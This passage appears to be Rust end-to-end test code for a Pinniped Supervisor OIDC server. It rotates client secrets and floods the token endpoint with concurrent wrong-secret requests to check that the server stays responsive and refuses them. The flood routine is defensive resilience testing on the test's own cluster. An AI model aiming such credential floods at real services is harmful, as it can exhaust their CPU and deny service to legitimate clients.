/// Ready, each secret is used once (so the flooded client's own requests are recognised without
/// bcrypt during the flood; the bystander's first request during the flood needs bcrypt).
/// Returns the secrets (never printed).
async fn oidc_clients(cluster: &Cluster, supervisor: &Supervisor) -> anyhow::Result<(String, String)> {
    let kubectl = cluster.kubectl();
    let namespace = supervisor.namespace();
    let mut secrets = Vec::new();
    for client in [FLOODED_CLIENT, BYSTANDER_CLIENT] {
        let oidc_client = json!({
            "apiVersion": "config.supervisor.pinniped.dev/v1alpha1",
            "kind": "OIDCClient",
            "metadata": {"name": client, "namespace": namespace},
            "spec": {
                "allowedRedirectURIs": [CLIENT_REDIRECT],
                "allowedGrantTypes": ["authorization_code", "refresh_token"],
                "allowedScopes": ["openid", "offline_access", "username", "groups"],
            },
        });
        kubectl
            .run_with_stdin(&["apply", "-f", "-"], Some(&oidc_client.to_string()))
            .await?;
        let created = kubectl
            .create_client_secret_request(namespace, client, true, false)
            .await?
            .map_err(|stderr| anyhow::anyhow!("{stderr}\n{}", supervisor.log()))?;
        let secret = created["status"]["generatedSecret"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        ensure!(secret.len() == 64, "no secret generated for {client}");
        kubectl
            .run(&[
                "wait",
                "-n",
                namespace,
                "--timeout=60s",
                "--for=jsonpath={.status.phase}=Ready",
                &format!("oidcclient/{client}"),
            ])
            .await?;
        secrets.push(secret);
    }
    let (flooded, bystander) = (secrets[0].clone(), secrets[1].clone());
    for (client, secret) in [(FLOODED_CLIENT, &flooded), (BYSTANDER_CLIENT, &bystander)] {
        selkie_e2e::eventually(Duration::from_secs(30), || {
            right_secret(
                supervisor.issuer().to_string(),
                supervisor.ca_pem(),
                client,
                secret.clone(),
            )
        })
        .await?;
    }
    // The bystander's secret is replaced, so its first request during the flood costs bcrypt.
    let replaced = kubectl
        .create_client_secret_request(namespace, BYSTANDER_CLIENT, true, true)
        .await?
        .map_err(|stderr| anyhow::anyhow!("{stderr}"))?;
    let bystander = replaced["status"]["generatedSecret"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    ensure!(
        bystander.len() == 64,
        "no new secret generated for {BYSTANDER_CLIENT}"
    );
    let old_bystander = secrets[1].clone();
    // The Supervisor's table of clients follows the storage Secret: the old secret stops working.
    selkie_e2e::eventually(Duration::from_secs(30), || {
        let old = old_bystander.clone();
        let (issuer, ca_pem) = (supervisor.issuer().to_string(), supervisor.ca_pem());
        async move {
            let http = new_client(&ca_pem)?;
            let (status, _, _) =
                client_token_request(&http, &format!("{issuer}/oauth2/token"), BYSTANDER_CLIENT, &old)
                    .await?;
            ensure!(status == 401, "the revoked secret is still accepted");
            Ok(())
        }
    })
    .await?;
    // The flooded client's secret once more, in case the table's change dropped what it knew.
    right_secret(
        supervisor.issuer().to_string(),
        supervisor.ca_pem(),
        FLOODED_CLIENT,
        flooded.clone(),
    )
    .await?;
    Ok((flooded, bystander))
}

/// A token request at `token_url` with a made-up authorization code, authenticated as
/// `client_id` with `secret` (HTTP Basic): the status, `error` and `error_description`.
async fn client_token_request(
    http: &HttpsClient,
    token_url: &str,
    client_id: &str,
    secret: &str,
) -> anyhow::Result<(u16, String, String)> {
    let verifier = "v".repeat(43);
    let form = form_urlencoded::Serializer::new(String::new())
        .extend_pairs([
            ("grant_type", "authorization_code"),
            ("code", "pin_ac_x.y"),
            ("redirect_uri", CLIENT_REDIRECT),
            ("code_verifier", verifier.as_str()),
        ])
        .finish();
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{client_id}:{secret}"));
    let response = http
        .send(
            http::Method::POST,
            token_url,
            &[
                (
                    http::header::CONTENT_TYPE,
                    http::HeaderValue::from_static("application/x-www-form-urlencoded"),
                ),
                (
                    http::header::AUTHORIZATION,
                    http::HeaderValue::from_str(&format!("Basic {basic}"))?,
                ),
            ],
            Bytes::from(form),
            1 << 16,
            Some(EXCHANGE_LIMIT * 3),
        )
        .await?;
    let answer: Value = serde_json::from_slice(&response.body).unwrap_or(Value::Null);
    let field = |name: &str| answer[name].as_str().unwrap_or_default().to_string();
    Ok((
        response.status.as_u16(),
        field("error"),
        field("error_description"),
    ))
}

/// A token request of `client_id` with its right `secret`, on a new connection: accepted (then
/// `invalid_grant`: the code is made up).
async fn right_secret(
    issuer: String,
    ca_pem: String,
    client_id: &'static str,
    secret: String,
) -> anyhow::Result<()> {
    let http = new_client(&ca_pem)?;
    let (status, error, description) =
        client_token_request(&http, &format!("{issuer}/oauth2/token"), client_id, &secret).await?;
    ensure!(
        status == 400 && error == "invalid_grant",
        "{client_id} with its secret: {status} {error}: {description}"
    );
    Ok(())
}

struct WrongSecrets {
    sent: usize,
    answers: BTreeMap<String, usize>,
    took: Duration,
}

/// [`SECRET_FLOODERS`] requests in flight at once, on [`SECRET_CONNECTIONS`] connections, each
/// naming [`FLOODED_CLIENT`] with a wrong secret, one after another until [`ABUSE`].
async fn wrong_secrets(issuer: &str, ca_pem: &str) -> anyhow::Result<WrongSecrets> {
    let token_url = Arc::new(format!("{issuer}/oauth2/token"));
    let began = Instant::now();
    let deadline = began + ABUSE;
    let clients: Vec<HttpsClient> = (0..SECRET_CONNECTIONS)
        .map(|_| new_client(ca_pem))
        .collect::<anyhow::Result<_>>()?;
    let mut flooders = JoinSet::new();
    for flooder in 0..SECRET_FLOODERS {
        let (http, token_url) = (clients[flooder % SECRET_CONNECTIONS].clone(), token_url.clone());
        flooders.spawn(async move {
            let mut answers: Vec<String> = Vec::new();
            // Bounded by the deadline, and in count.
            for n in 0..10_000usize {
                if Instant::now() >= deadline {
                    break;
                }
                let secret: String = sha2::Sha256::new()
                    .chain_update(flooder.to_le_bytes())
                    .chain_update(n.to_le_bytes())
                    .finalize()
                    .iter()
                    .map(|byte| format!("{byte:02x}"))
                    .collect();
                let answer = tokio::time::timeout(
                    EXCHANGE_LIMIT * 3,
                    client_token_request(&http, &token_url, FLOODED_CLIENT, &secret),
                )
                .await;
                answers.push(match answer {
                    Ok(Ok((status, error, _))) => format!("{status} {error}"),
                    Ok(Err(error)) => short(&format!("{error:#}")),
                    Err(_) => "no answer".into(),
                });
            }
            answers
        });
    }
    let mut flood = WrongSecrets {
        sent: 0,
        answers: BTreeMap::new(),
        took: Duration::ZERO,
    };
    while let Some(answers) = flooders.join_next().await {
        for answer in answers? {
            flood.sent += 1;
            *flood.answers.entry(answer).or_default() += 1;
        }
    }
    flood.took = began.elapsed();
    Ok(flood)
}

impl WrongSecrets {
    /// Every wrong secret was refused (401 `invalid_client`) or turned away as busy (503
    /// `temporarily_unavailable`), and the flood ran.
    fn check(&self) -> anyhow::Result<()> {
        let expected = ["401 invalid_client", "503 temporarily_unavailable"];
        ensure!(
            self.answers
                .keys()
                .all(|answer| expected.contains(&answer.as_str())),
            "answers to wrong client secrets: {:?}",
            self.answers
        );
        ensure!(
            self.answers
                .get(expected[0])
                .is_some_and(|refused| *refused >= 10),
            "too few wrong secrets were checked: {:?}",
            self.answers
        );
        Ok(())
    }
}

impl fmt::Display for WrongSecrets {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let checked = self.answers.get("401 invalid_client").copied().unwrap_or(0);
        write!(
            f,
            "{} token requests with wrong secrets for one OIDCClient, {SECRET_FLOODERS} at a time on \
             {SECRET_CONNECTIONS} connections, in {:.1?}: {:?} ({:.1} bcrypt checks a second)",
            self.sent,
            self.took,
            self.answers,
            checked as f64 / self.took.as_secs_f64().max(0.001),
        )
    }
}
